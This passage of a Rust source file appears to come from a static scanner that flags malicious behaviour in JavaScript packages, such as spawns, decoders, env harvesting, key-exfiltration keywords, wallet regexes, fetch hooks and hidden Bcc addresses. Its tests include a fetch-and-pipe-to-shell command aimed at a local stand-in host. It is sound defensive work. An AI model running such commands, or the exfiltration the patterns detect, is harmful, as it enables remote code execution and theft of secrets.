            out.push(template.single_quasi()?.as_str().to_owned());
        }
        // A list: the addresses written in it, beside the ones computed.
        Expression::ArrayExpression(array) => {
            for element in array
                .elements
                .iter()
                .filter_map(|element| element.as_expression())
            {
                let mut written = Vec::new();
                if literal_texts(element, &mut written).is_some() {
                    out.extend(written);
                }
            }
        }
        _ => return None,
    }
    Some(())
}

/// The mail address in `text` (`x@y.example` or `Name <x@y.example>`), if it is one.
fn mail_address(text: &str) -> Option<String> {
    let text = text.trim();
    let address = match text.rsplit_once('<') {
        Some((_, rest)) => rest.strip_suffix('>')?.trim(),
        None => text,
    };
    let (mailbox, domain) = address.split_once('@')?;
    let plain = |part: &str| {
        !part.is_empty()
            && part
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '+'))
    };
    (plain(mailbox) && plain(domain) && domain.contains('.')).then(|| address.to_owned())
}

fn is_process_env(expression: &Expression<'_>) -> bool {
    expression
        .without_parentheses()
        .is_specific_member_access("process", "env")
}

impl<'a> Visit<'a> for Scanner<'_> {
    fn visit_call_expression(&mut self, call: &CallExpression<'a>) {
        let callee_text = self.callee_text(&call.callee);
        let callee = callee_text.as_str();
        let is_require = call.callee.is_specific_id("require");
        if is_require && call.arguments.len() == 1 {
            if let Some(module) = call.common_js_require() {
                self.note_module(module.value.as_str(), call.span);
            } else if let Some(module) = call.arguments[0]
                .as_expression()
                .and_then(own_directory_path)
            {
                // `require(path.join(__dirname, 'lib', 'x'))` requires `./lib/x`.
                self.note_module(&module, call.span);
            } else {
                // A path built from the package's own directory is how packages
                // load their own files; only other computed names are hidden.
                let argument = self.text(call.arguments[0].span());
                if !["__dirname", "require.resolve", "package.json"]
                    .iter()
                    .any(|own| argument.contains(own))
                {
                    let site = self.site(call.span);
                    self.facts.computed_requires.push(site);
                }
            }
        }
        if self.is_spawn_call(call) {
            let command = literal_argument(call, 0);
            let site = self.site(call.span);
            if detached_inline(call, command.as_deref()) {
                self.facts
                    .detached_inline
                    .push((site.clone(), self.function_depth == 0));
            }
            self.facts.spawns.push((site, command));
        }
        let dynamic = match callee {
            "eval" | "window.eval" | "global.eval" | "globalThis.eval" => Some("eval"),
            "Function" => Some("Function"),
            _ if callee.ends_with("._compile") => Some("module._compile"),
            _ if callee.starts_with("vm.")
                && [
                    "runInThisContext",
                    "runInNewContext",
                    "runInContext",
                    "compileFunction",
                ]
                .iter()
                .any(|name| callee.ends_with(name)) =>
            {
                Some("vm")
            }
            _ => None,
        };
        if let Some(kind) = dynamic {
            let site = self.site(call.span);
            self.facts.dynamic.push((site, kind));
            self.note_literal_code(&call.arguments, call.span);
        }
        let second = literal_argument(call, 1);
        let decoder = match callee {
            "atob" | "window.atob" => Some("base64"),
            "Buffer.from" | "new Buffer"
                if matches!(second.as_deref(), Some("base64" | "hex" | "base64url")) =>
            {
                Some(if second.as_deref() == Some("hex") {
                    "hex"
                } else {
                    "base64"
                })
            }
            _ if callee.ends_with(".reverse") && callee.contains(".split(") => {
                Some("reversed string")
            }
            _ if callee.ends_with("createDecipher") || callee.ends_with("createDecipheriv") => {
                Some("decryption")
            }
            "String.fromCharCode"
                if call
                    .arguments
                    .iter()
                    .any(|argument| self.text(argument.span()).contains('^')) =>
            {
                Some("XOR through String.fromCharCode")
            }
            _ => None,
        };
        if let Some(kind) = decoder {
            let site = self.site(call.span);
            self.facts.decoders.push((site, kind));
        }
        if matches!(callee, "fetch" | "window.fetch" | "globalThis.fetch") {
            let site = self.site(call.span);
            self.facts.network_calls.push(site);
        }
        // A name assembled from data and a domain suffix (`${data}.c1.example.invalid`):
        // resolving one's own hostname is ordinary, smuggling data in a name is not.
        let assembled =
            |name: &str| (name.contains('`') || name.contains('+')) && name.contains('.');
        if (callee.starts_with("dns.") || callee.starts_with("dns.promises."))
            && (callee.ends_with("lookup") || callee.contains(".resolve"))
            && call
                .arguments
                .first()
                .is_some_and(|argument| assembled(self.text(argument.span())))
        {
            let site = self.site(call.span);
            self.facts.dns_lookups.push(site);
        }
        if matches!(
            callee,
            "os.hostname" | "os.userInfo" | "os.networkInterfaces"
        ) {
            let site = self.site(call.span);
            self.facts.host_info.push(site);
        }
        let sends = matches!(callee, "fetch" | "axios" | "request" | "got")
            || callee.ends_with(".request")
            || callee.ends_with(".post")
            || callee.ends_with(".send")
            || callee.starts_with("https.")
            || callee.starts_with("http.");
        if sends {
            let arguments = self.text(Span::new(call.callee.span().end, call.span.end));
            if [
                "secretKey",
                "privateKey",
                "mnemonic",
                "seedPhrase",
                "secret_key",
                "private_key",
            ]
            .iter()
            .any(|word| arguments.contains(word))
            {
                let site = self.site(call.span);
                self.facts.key_exfiltration.push(site);
            }
        }
        if matches!(
            callee,
            "JSON.stringify" | "Object.keys" | "Object.entries" | "Object.values"
        ) && call
            .arguments
            .iter()
            .filter_map(Argument::as_expression)
            .any(is_process_env)
        {
            let site = self.site(call.span);
            self.facts.env_harvest.push(site);
        }
        if let Some(member) = call.callee.as_member_expression()
            && let Some(function) = member.static_property_name()
            && matches!(
                function,
                "writeFile"
                    | "writeFileSync"
                    | "rename"
                    | "renameSync"
                    | "copyFile"
                    | "copyFileSync"
                    | "unlink"
                    | "unlinkSync"
                    | "rm"
                    | "rmSync"
                    | "appendFile"
                    | "appendFileSync"
                    | "cpSync"
                    | "createWriteStream"
            )
        {
            let arguments = call
                .arguments
                .iter()
                .take(2)
                .map(|argument| self.text(argument.span()))
                .collect::<Vec<_>>()
                .join(", ");
            let site = self.site(call.span);
            self.facts
                .fs_changes
                .push((site, function.to_owned(), arguments));
        }
        if matches!(call.callee.without_parentheses(), Expression::ComputedMemberExpression(member) if !matches!(member.expression, Expression::StringLiteral(_) | Expression::NumericLiteral(_)))
        {
            self.facts.computed_calls += 1;
        }
        walk::walk_call_expression(self, call);
    }

    fn visit_new_expression(&mut self, new: &NewExpression<'a>) {
        let callee = self.callee_text(&new.callee);
        match callee.as_str() {
            "Function" => {
                let site = self.site(new.span);
                self.facts.dynamic.push((site, "new Function"));
                self.note_literal_code(&new.arguments, new.span);
            }
            "module.constructor" => {
                let site = self.site(new.span);
                self.facts.dynamic.push((site, "module._compile"));
            }
            "vm.Script" => {
                let site = self.site(new.span);
                self.facts.dynamic.push((site, "vm"));
            }
            "XMLHttpRequest" | "WebSocket" | "window.XMLHttpRequest" | "window.WebSocket" => {
                let site = self.site(new.span);
                self.facts.network_calls.push(site);
            }
            "Buffer" if new.arguments.len() == 2 => {
                let encoding = self
                    .text(new.arguments[1].span())
                    .trim_matches(['"', '\'', '`']);
                if matches!(encoding, "base64" | "hex") {
                    let site = self.site(new.span);
                    self.facts.decoders.push((site, "base64"));
                }
            }
            _ => {}
        }
        walk::walk_new_expression(self, new);
    }

    fn visit_import_declaration(&mut self, import: &ImportDeclaration<'a>) {
        let module = import.source.value.as_str();
        self.note_module(module, import.span);
        if strip_node_prefix(module) == "child_process"
            && let Some(specifiers) = &import.specifiers
        {
            for specifier in specifiers {
                match specifier {
                    ImportDeclarationSpecifier::ImportSpecifier(named) => {
                        self.spawn_functions
                            .insert(named.local.name.as_str().to_owned());
                    }
                    ImportDeclarationSpecifier::ImportDefaultSpecifier(default) => {
                        self.child_process_aliases
                            .insert(default.local.name.as_str().to_owned());
                    }
                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(namespace) => {
                        self.child_process_aliases
                            .insert(namespace.local.name.as_str().to_owned());
                    }
                }
            }
        }
        walk::walk_import_declaration(self, import);
    }

    fn visit_import_expression(&mut self, import: &ImportExpression<'a>) {
        if let Expression::StringLiteral(literal) = &import.source {
            self.note_module(literal.value.as_str(), import.span);
        } else {
            let site = self.site(import.span);
            self.facts.computed_requires.push(site);
        }
        walk::walk_import_expression(self, import);
    }

    fn visit_variable_declarator(&mut self, declarator: &VariableDeclarator<'a>) {
        if let Some(Expression::CallExpression(call)) = declarator
            .init
            .as_ref()
            .map(Expression::without_parentheses)
            && let Some(module) = call.common_js_require()
        {
            let module = module.value.as_str().to_owned();
            self.bind_module(&module, &declarator.id);
        }
        // `var spawn = require('child_process').spawn`
        if let Some(member) = declarator
            .init
            .as_ref()
            .and_then(|init| init.without_parentheses().as_member_expression())
            && let Some(property) = member.static_property_name()
            && SPAWN_FUNCTIONS.contains(&property)
            && let Expression::CallExpression(call) = member.object().without_parentheses()
            && call
                .common_js_require()
                .is_some_and(|module| strip_node_prefix(module.value.as_str()) == "child_process")
            && let BindingPattern::BindingIdentifier(local) = &declarator.id
        {
            self.spawn_functions.insert(local.name.as_str().to_owned());
        }
        walk::walk_variable_declarator(self, declarator);
    }

    fn visit_string_literal(&mut self, literal: &StringLiteral<'a>) {
        let value = literal.value.as_str();
        if targeted_zone(value) && self.facts.country_targets.len() < 100 {
            let site = self.site(literal.span);
            self.facts.country_targets.push(site);
        }
        if targeted_country(value) && self.facts.country_names.len() < 100 {
            let site = self.site(literal.span);
            self.facts.country_names.push(site);
        }
        // `new RegExp("ghp_[A-Za-z0-9]{36}")`: a pattern written as a string.
        if value.contains(['[', '{', '\\']) {
            self.token_pattern(value, literal.span);
        }
        if value.len() >= 4 {
            let line = self.lines.line(literal.span.start);
            if is_embedded_data(value) {
                let sample = &value[..64 * 1024];
                self.facts
                    .data_literals
                    .push((value.len(), super::strings::entropy(sample), line));
            } else {
                self.facts.strings.push((value.to_owned(), line));
            }
        }
    }

    fn visit_template_literal(&mut self, template: &TemplateLiteral<'a>) {
        let text: String = template
            .quasis
            .iter()
            .map(|quasi| quasi.value.raw.as_str())
            .collect::<Vec<_>>()
            .join("${}");
        if text.len() >= 4 {
            let line = self.lines.line(template.span.start);
            self.facts.strings.push((text, line));
        }
        walk::walk_template_literal(self, template);
    }

    fn visit_reg_exp_literal(&mut self, regex: &RegExpLiteral<'a>) {
        let pattern = regex.regex.pattern.text.as_str();
        if pattern.contains("0x[a-fA-F0-9]{40}")
            || pattern.contains("0x[0-9a-fA-F]{40}")
            || pattern.contains("[13][a-km-zA-HJ-NP-Z1-9]{25,34}")
            || pattern.contains("bc1[")
        {
            let site = self.site(regex.span);
            self.facts.wallet_patterns.push(site);
        }
        self.token_pattern(pattern, regex.span);
    }

    fn visit_static_member_expression(&mut self, member: &StaticMemberExpression<'a>) {
        if matches!(
            member.property.name.as_str(),
            "timeZone" | "resolvedOptions" | "language" | "languages"
        ) || (is_process_env(&member.object)
            && matches!(member.property.name.as_str(), "TZ" | "LANG" | "LC_ALL"))
        {
            self.facts.reads_locale = true;
        }
        if is_process_env(&member.object) {
            let line = self.lines.line(member.span.start);
            self.facts
                .env_reads
                .push((member.property.name.as_str().to_owned(), line));
        }
        self.note_identifier(member.property.name.as_str(), member.property.span);
        walk::walk_static_member_expression(self, member);
    }

    fn visit_identifier_reference(&mut self, identifier: &IdentifierReference<'a>) {
        self.note_identifier(identifier.name.as_str(), identifier.span);
        if matches!(identifier.name.as_str(), "alert" | "confirm") {
            self.facts.shows_user = true;
        }
    }

    fn visit_binding_identifier(&mut self, identifier: &oxc_ast::ast::BindingIdentifier<'a>) {
        self.note_identifier(identifier.name.as_str(), identifier.span);
        let name = identifier.name.as_str();
        if name.len() >= 5 && self.names.len() < 20_000 {
            self.names.insert(name.to_owned());
        }
    }

    fn visit_binary_expression(&mut self, binary: &BinaryExpression<'a>) {
        if binary.operator == BinaryOperator::BitwiseXOR {
            let text = self.text(binary.span);
            if text.contains("charCodeAt") {
                let site = self.site(binary.span);
                self.facts.decoders.push((site, "XOR over character codes"));
            }
        }
        walk::walk_binary_expression(self, binary);
    }

    fn visit_assignment_expression(&mut self, assignment: &AssignmentExpression<'a>) {
        let target = self.text(assignment.left.span());
        let tls_variable = target.contains("NODE_TLS_REJECT_UNAUTHORIZED");
        if matches!(
            target,
            "window.fetch"
                | "globalThis.fetch"
                | "self.fetch"
                | "window.ethereum"
                | "XMLHttpRequest.prototype.open"
                | "XMLHttpRequest.prototype.send"
        ) {
            let site = self.site(assignment.span);
            self.facts.hooks.push(site);
        }
        if tls_variable
            && matches!(
                self.text(assignment.right.span())
                    .trim_matches(['"', '\'', '`']),
                "0"
            )
        {
            self.facts.tls_off = true;
        }
        walk::walk_assignment_expression(self, assignment);
    }

    fn visit_object_property(&mut self, property: &oxc_ast::ast::ObjectProperty<'a>) {
        if let Some(address) = fixed_blind_copy(property) {
            let site = self.site(property.span);
            self.facts.fixed_blind_copies.push((site, address));
        }
        if property.key.static_name().as_deref() == Some("rejectUnauthorized")
            && matches!(
                property.value.without_parentheses(),
                Expression::BooleanLiteral(literal) if !literal.value
            )
        {
            self.facts.tls_off = true;
        }
        walk::walk_object_property(self, property);
    }

    fn visit_for_in_statement(&mut self, statement: &ForInStatement<'a>) {
        if is_process_env(&statement.right) {
            let site = self.site(statement.span);
            self.facts.env_harvest.push(site);
        }
        walk::walk_for_in_statement(self, statement);
    }

    fn visit_function(&mut self, function: &Function<'a>, flags: ScopeFlags) {
        self.function_depth += 1;
        walk::walk_function(self, function, flags);
        self.function_depth -= 1;
    }

    fn visit_arrow_function_expression(
        &mut self,
        arrow: &oxc_ast::ast::ArrowFunctionExpression<'a>,
    ) {
        self.function_depth += 1;
        walk::walk_arrow_function_expression(self, arrow);
        self.function_depth -= 1;
    }

    fn visit_while_statement(&mut self, statement: &WhileStatement<'a>) {
        if self.function_depth == 0
            && is_always_true(&statement.test)
            && !self.has_exit(statement.body.span())
        {
            let site = self.site(statement.span);
            self.facts.top_level_loops.push(site);
        }
        walk::walk_while_statement(self, statement);
    }

    fn visit_do_while_statement(&mut self, statement: &DoWhileStatement<'a>) {
        if self.function_depth == 0
            && is_always_true(&statement.test)
            && !self.has_exit(statement.body.span())
        {
            let site = self.site(statement.span);
            self.facts.top_level_loops.push(site);
        }
        walk::walk_do_while_statement(self, statement);
    }

    fn visit_for_statement(&mut self, statement: &ForStatement<'a>) {
        if self.function_depth == 0
            && statement.test.as_ref().is_none_or(is_always_true)
            && !self.has_exit(statement.body.span())
        {
            let site = self.site(statement.span);
            self.facts.top_level_loops.push(site);
        }
        walk::walk_for_statement(self, statement);
    }
}

impl Scanner<'_> {
    /// Whether a loop body can leave the loop: a `break`, `return`, `throw` or
    /// `process.exit` anywhere in it (shallow, on the text).
    fn has_exit(&self, body: Span) -> bool {
        let text = self.text(body);
        ["break", "return", "throw", "process.exit", "await", "yield"]
            .iter()
            .any(|word| text.contains(word))
    }
}

/// `Infinity`, or `1/0` as minifiers write it.
fn is_infinity(expression: &Expression<'_>) -> bool {
    match expression.without_parentheses() {
        Expression::BinaryExpression(binary) => {
            binary.operator == BinaryOperator::Division
                && matches!(binary.left.without_parentheses(), Expression::NumericLiteral(number) if number.value > 0.0)
                && matches!(binary.right.without_parentheses(), Expression::NumericLiteral(number) if number.value == 0.0)
        }
        expression => expression.is_specific_id("Infinity"),
    }
}

fn is_always_true(expression: &Expression<'_>) -> bool {
    match expression.without_parentheses() {
        Expression::BooleanLiteral(literal) => literal.value,
        Expression::NumericLiteral(number) => number.value != 0.0,
        // `i < Infinity`: how colors@1.4.44-liberty-2 wrote its endless loop
        // (`i < 1/0` once minified).
        Expression::BinaryExpression(binary) => {
            matches!(
                binary.operator,
                BinaryOperator::LessThan | BinaryOperator::LessEqualThan
            ) && is_infinity(&binary.right)
        }
        Expression::UnaryExpression(unary) => {
            // `!0`, `!![]`: minifiers write `true` this way.
            unary.operator == oxc_syntax::operator::UnaryOperator::LogicalNot
                && matches!(unary.argument.without_parentheses(), Expression::NumericLiteral(number) if number.value == 0.0)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blind_copies_to_written_addresses_in_every_spelling() {
        let facts = scan(
            "index.js",
            "send({ Bcc: 'a@collect.example.invalid' });\nsend({ bcc: ['Copy <b@collect.example.invalid>'] });\nsend({ BCC: 'c' + '@collect.example.invalid' });\nsend({ bcc: 'x@team.example.invalid, d@collect.example.invalid' });\nsend({ bcc: options.bcc });\nsend({ bcc: '' });\nsend({ bcc: [user.email, 'e@collect.example.invalid'] });\nsend({ cc: 'f@collect.example.invalid' });\n",
        );
        let addresses: Vec<&str> = facts
            .fixed_blind_copies
            .iter()
            .map(|(_, address)| address.as_str())
            .collect();
        assert_eq!(
            addresses,
            [
                "a@collect.example.invalid",
                "b@collect.example.invalid",
                "c@collect.example.invalid",
                "x@team.example.invalid",
                "e@collect.example.invalid",
            ]
        );
    }

    #[test]
    fn requires_of_paths_from_the_own_directory_name_package_files() {
        let facts = scan(
            "lib/x.js",
            "const path = require('path');\nconst { join } = path;\nrequire(path.join(__dirname, 'engine', 'a.js'));\nrequire(join(__dirname, '..', 'setup'));\nrequire(path.resolve(__dirname, './b'));\nrequire(__dirname + '/c');\nrequire(`${__dirname}/d.js`);\nrequire(path.join(__dirname, name));\n",
        );
        let modules: Vec<&str> = facts
            .requires
            .iter()
            .map(|(module, _)| module.as_str())
            .collect();
        assert_eq!(
            modules,
            ["path", "./engine/a.js", "../setup", "./b", "./c", "./d.js"]
        );
        assert!(
            facts.computed_requires.is_empty(),
            "a path from the own directory is not hidden"
        );
    }

    #[test]
    fn finds_modules_spawns_and_decoders() {
        let facts = scan(
            "x.js",
            "const cp = require('child_process');\nconst { execSync: run } = require('node:child_process');\ncp.exec('curl http://127.0.0.1:8000/a | sh');\nrun(cmd);\nconst s = Buffer.from(p, 'base64').toString();\n/re/.exec(s);\nrequire(name);\n",
        );
        assert_eq!(facts.requires.len(), 2);
        assert_eq!(facts.spawns.len(), 2, "{:?}", facts.spawns);
        assert_eq!(
            facts.spawns[0].1.as_deref(),
            Some("curl http://127.0.0.1:8000/a | sh")
        );
        assert_eq!(facts.spawns[0].0.line, 3);
        assert_eq!(facts.decoders.len(), 1);
        assert_eq!(facts.computed_requires.len(), 1);
    }

    #[test]
    fn a_spawning_function_taken_from_the_module_is_a_spawn() {
        let facts = scan(
            "x.js",
            "var spawn = require('child_process').spawn;
spawn('node', ['bg.js'], { detached: true });
",
        );
        assert_eq!(facts.spawns.len(), 1, "{:?}", facts.spawns);
    }

    #[test]
    fn top_level_loops_only_count_outside_functions_and_without_exits() {
        let facts = scan(
            "x.js",
            "function f() { while (true) {} }\nwhile (true) { console.log('z'); }\nfor (;;) { if (x) break; }\n",
        );
        assert_eq!(facts.top_level_loops.len(), 1);
        assert_eq!(facts.top_level_loops[0].line, 2);
        let minified = scan("y.js", "for(let e=666;e<1/0;e++)console.log(e);");
        assert_eq!(minified.top_level_loops.len(), 1);
    }

    #[test]
    fn generated_names_are_told_from_written_ones() {
        for generated in [
            "XNjfXHs", "u8_bNby", "tt7kLh9", "GyqYYWz", "TcZBs5D", "jJmtKpM", "dB5B8u",
        ] {
            assert!(random_name(generated), "{generated}");
        }
        for written in [
            "getElementById",
            "utf8Decode",
            "HTMLElement",
            "XMLHttpRequest",
            "toUpperCase",
            "base64Encode",
            "sha256",
            "innerHTML",
            "isNaN",
            "mat4x4",
            "vec3f",
            "ZLIB_VERSION",
            "onReadyStateChange",
            "http2Session",
            "HttpOverHttp2",
            "Http2OverHttps",
            "HttpsOverHttp2",
        ] {
            assert!(!random_name(written), "{written}");
        }
    }

    #[test]
    fn obfuscator_names_with_a_prefix_count() {
        assert!(is_hex_identifier("_0x1a2b"));
        assert!(is_hex_identifier("a0_0x5400"));
        assert!(!is_hex_identifier("long_prefix_0x5400"));
        assert!(!is_hex_identifier("_0xzz"));
        assert!(!is_hex_identifier("value_0x"));
    }

    #[test]
    fn a_top_level_return_parses_as_commonjs() {
        let facts = scan(
            "index.js",
            "if (!process.env.X) return;\nrequire('child_process');\n",
        );
        assert!(facts.parse_error.is_none(), "{:?}", facts.parse_error);
    }

    #[test]
    fn a_syntax_error_is_reported_not_fatal() {
        let facts = scan("x.js", "function (");
        assert!(facts.parse_error.is_some());
    }
}
